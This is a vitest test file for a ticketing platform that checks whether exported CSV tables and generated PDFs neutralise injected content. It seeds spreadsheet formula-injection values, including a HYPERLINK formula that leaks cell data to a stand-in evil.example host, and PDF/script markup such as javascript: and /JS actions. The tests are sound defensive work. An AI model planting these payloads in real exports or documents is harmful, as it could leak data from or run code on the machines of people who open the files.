import { FILE_KINDS, type FileKind, staffApi } from '@foyer/contract'
import { readSheet } from '@foyer/tables/read'
import {
  type BuiltEvent,
  CARDS,
  confirmCard,
  createIntent,
  orderBody,
  serverForTests,
} from '@foyer/testkit'
import { fillTexts } from '@foyer/testkit/stored-texts'
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
import { beforeAll, describe, expect, test } from 'vitest'
import * as z from 'zod/mini'
import { receiptPdf } from '../src/features/tickets/pdf/receipt-pdf.ts'
import { ticketsPdf } from '../src/features/tickets/pdf/tickets-pdf.ts'
import { waiverPdf } from '../src/features/tickets/pdf/waiver-pdf.ts'
import { COLUMNS } from '../src/privacy/columns.ts'
import { anOrder, aTenant } from './support/an-order.ts'
import { holdCartOf } from './support/calls.ts'
import { member } from './support/staff.ts'
import { csvOf } from './support/tables.ts'

/** What is stored as text stays text in the files that people open: no formula, no link, no script. */

describe('a table', () => {
  const server = serverForTests({ jobs: false, isOneAddressMany: true })
  let shop: Awaited<ReturnType<typeof aShop>>
  beforeAll(async () => {
    shop = await aShop()
  })

  /** What an organizer has to write into each of its files: an order with a coupon that agreed to news. */
  async function aShop() {
    const event = await server.build.event({ types: [{ name: 'Adult', dynamicMinor: 1000 }] })
    const coupon = await server.build.coupon({})
    const orderId = await buyWithCoupon(event, coupon.code)
    const of = [event.tenantId, orderId]
    await server.sql(
      `insert into access_codes (tenant_id, id, event_id, code, label, opens_early)
       values ($1, gen_random_uuid(), $2, 'FANS', 'x', true)`,
      [event.tenantId, event.eventId],
    )
    await server.sql(
      `insert into order_consents (tenant_id, order_id, marketing_text, accepted_at)
       values ($1, $2, 'x', now())`,
      of,
    )
    await server.sql(`insert into order_tags (tenant_id, order_id, tag) values ($1, $2, 'x')`, of)
    await server.sql(
      `with room as (
         insert into venue_rooms (tenant_id, id, venue_id, name, capacity)
         values ($1, gen_random_uuid(), $2, 'x', 300) returning tenant_id, id)
       insert into session_venue_rooms (tenant_id, session_id, room_id)
       select tenant_id, $3, id from room`,
      [event.tenantId, event.venueId, event.sessionId],
    )
    return { event, coupon }
  }

  async function buyWithCoupon(event: BuiltEvent, code: string): Promise<string> {
    const buyer = server.browser()
    await holdCartOf(buyer, event)
    await buyer.send('POST', '/api/checkout/carts/12345/coupon', { code })
    const { body: intent } = await createIntent(buyer)
    await confirmCard(buyer, intent, CARDS.success)
    const paid = orderBody(event, intent.paymentIntentId)
    const { status, body } = await buyer.send('POST', '/api/checkout/orders', paid)
    expect(status).toBe(201)
    return body.orderId
  }

  /** Writes it into every text of the organizer, of the codes and of the buyer. */
  async function fillWith(formula: string, { event, coupon }: typeof shop): Promise<void> {
    const filled = await fillTexts((text, values) => server.sql(text, values), COLUMNS, {
      tenantId: event.tenantId,
      text: formula,
      short: formula.slice(0, 4),
    })
    expect(filled).toEqual(
      expect.arrayContaining([
        'access_codes.label',
        'checkout_rules.name',
        'coupon_groups.name',
        'events.name',
        'order_consents.marketing_text',
        'ticket_types.name',
        'venue_rooms.name',
        'venues.name',
      ]),
    )
    const { codeId } = coupon
    await server.sql('update coupon_codes set code = $1 where id = $2', [formula, codeId])
    await server.sql('update order_tags set tag = $1', [formula])
    await server.sql('update orders set email = $1', [formula])
    await server.sql(
      `update orders set contact = contact || jsonb_build_object('firstName', $1::text)`,
      [formula],
    )
  }

  /** A request for each call that answers a table. */
  function requestsFor({ event, coupon }: typeof shop) {
    const { groupId, codeId, ruleId } = coupon
    const exported = (kind: FileKind) => {
      const of = kind === 'events' || kind === 'coupon_codes' ? '' : `&eventId=${event.eventId}`
      return ['GET', `/api/admin/exports?kind=${kind}${of}`] as const
    }
    return {
      exportFile: FILE_KINDS.map(exported),
      exportOrders: [['POST', '/api/admin/exports/orders', {}]],
      exportGuests: [['POST', '/api/admin/exports/guests', { sessionId: event.sessionId }]],
      exportConsents: [['POST', '/api/admin/exports/marketing']],
      exportCouponReport: [`group/${groupId}`, `code/${codeId}`, `rule/${ruleId}`].map(
        (subject) => ['GET', `/api/admin/coupon-reports/${subject}/file`] as const,
      ),
      createCouponCodes: [
        ['POST', '/api/admin/coupon-codes/bulk', { groupId, count: 2, prefix: '' }],
      ],
    } as const satisfies Record<string, readonly (readonly [string, string, object?])[]>
  }

  test('is asked for by each call that answers one', () => {
    const isFile = (schema: unknown) => {
      const parts = schema instanceof z.ZodMiniObject ? schema.shape : {}
      return ['name', 'heads', 'rows'].every((part) => part in parts)
    }
    const calls = Object.entries(staffApi).flatMap(([name, { output }]) => {
      const parts = output instanceof z.ZodMiniObject ? Object.values(output.shape) : []
      return [output, ...parts].some(isFile) ? [name] : []
    })
    expect(calls.toSorted()).toEqual(Object.keys(requestsFor(shop)).toSorted())
  })

  test.each(['=HYPERLINK("https://evil.example/?"&A1,"Total")', '+1+1', '-2+3', '@SUM(A1)'])(
    'has no cell that a spreadsheet runs, whichever text is %s',
    async (formula) => {
      await fillWith(formula, shop)
      const { browser } = await member(server, 'owner')
      for (const [method, path, body] of Object.values(requestsFor(shop)).flat()) {
        const answer = await browser.send(method, path, body)
        const table = answer.body.table ?? answer.body
        const { name, rows } = table
        expect(rows.length, name).toBeGreaterThan(0)
        const text = csvOf(table)
        const cells = readSheet(Buffer.from(text), 'en-US').rows.flatMap((row) => row.cells)
        expect(
          cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell)),
          name,
        ).toEqual([])
        expect(text, name).toContain(`'${formula.charAt(0)}`)
      }
    },
  )
})

describe('a PDF', () => {
  const MARKUP = '<script>run()</script> javascript:run() (/JS (run))>> endobj'

  /** The same with markup behind each text, so that a new one is covered by itself. */
  function marked(value: unknown, name = ''): unknown {
    if (typeof value === 'string') return isTyped(value, name) ? `${value} ${MARKUP}` : value
    if (Array.isArray(value)) return value.map((entry) => marked(entry, name))
    if (typeof value !== 'object' || value === null || value instanceof Date) return value
    return Object.fromEntries(
      Object.entries(value).map(([key, entry]) => [key, marked(entry, key)]),
    )
  }
  const isTyped = (value: string, name: string) =>
    !/^(id|\w+Id|status|state|kind|currency|locale|timeZone|qrCode|validationCode|domain|slug)$/.test(
      name,
    ) && !/^(\d{4}-\d\d-\d\d|https?:|\/)/.test(value)
  // biome-ignore lint/suspicious/noExplicitAny: the copy has the shape of what it was made of
  const markedAs = <T>(view: T): T => marked(view) as any

  const tenant = markedAs(aTenant())
  const plain = anOrder({ tickets: 2 })
  /** A rule took something off, under its name. */
  const rules = [
    { ruleId: plain.order.id, name: 'Early birds', isOfCoupon: false, discountMinor: 5 },
  ]
  const quote = { ...plain.order.quote, discountMinor: 5, rules }
  const order = markedAs({ ...plain, order: { ...plain.order, quote } })
  test.each([
    ['of the tickets', () => ticketsPdf(tenant, order, 'a4')],
    ['of the receipt', () => receiptPdf(tenant, order), 'Early birds'],
    [
      'of a waiver',
      () =>
        waiverPdf(
          markedAs({
            tenant,
            orderNumber: '0E2F0A00',
            eventName: 'Harbor Lights',
            timeZone: 'America/Los_Angeles',
            ticket: 'ticket 1',
            text: 'Please sign.',
            signed: {
              participant_name: 'Ada',
              guardian_name: 'Grace',
              email: 'ada@example.com',
              signature_kind: 'typed' as const,
              signature: 'Ada',
              signed_at: new Date('2026-07-01T10:00:00Z'),
              text_version: 1,
              sha256: 'abc',
            },
            isByLinkAlone: false,
          }),
        ),
    ],
  ])('%s shows markup as text, and does nothing when it is opened', async (_, make, named = '') => {
    const bytes = await make()
    const pdf = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise
    expect(await pdf.getJSActions()).toBeNull()
    expect(await pdf.getOpenAction()).toBeNull()
    let letters = ''
    for (let number = 1; number <= pdf.numPages; number += 1) {
      const page = await pdf.getPage(number)
      const links = (await page.getAnnotations()).map(({ url, unsafeUrl }) => url ?? unsafeUrl)
      expect(links.filter((link) => !/^(https:|mailto:)/.test(link ?? ''))).toEqual([])
      const { items } = await page.getTextContent()
      letters += items.map((item) => ('str' in item ? item.str : '')).join('')
    }
    const shown = `${named}<script>run()</script>`.replace(/\s/g, '')
    expect(letters.replace(/\s/g, '')).toContain(shown)
  })
})
